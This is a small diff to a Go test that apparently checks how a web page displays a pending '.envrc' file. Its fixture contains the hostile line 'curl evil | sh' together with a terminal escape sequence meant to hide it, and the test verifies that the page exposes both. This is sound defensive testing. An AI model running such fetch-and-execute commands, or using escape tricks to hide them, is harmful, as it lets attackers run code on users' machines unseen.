@@ -39,8 +39,8 @@ func TestACardShowsACreatedNameWithItsContent(t *testing.T) {
 	b := loggedIn(t, s, "ada")
 	page := b.visit(t, "/requests").body
 	card := element(t, page, "r-k1")
-	for _, want := range []string{"Keep .envrc?", `curl evil | sh<b class="hidden">␛</b>[2K`, "file, 24 bytes", "./configure",
-		"This is the beginning of it.", "programs of this machine act on it", ">Keep it<", ">Delete it<",
+	for _, want := range []string{
+		"Keep .envrc?", `curl evil | sh<b class="hidden">␛</b>[2K`, "file, 24 bytes", "./configure", "This is the beginning of it.", "programs of this machine act on it", ">Keep it<", ">Delete it<",
 		`<b class="count">2</b>`} {
 		expect.Contains(t, card+page, want)
 	}
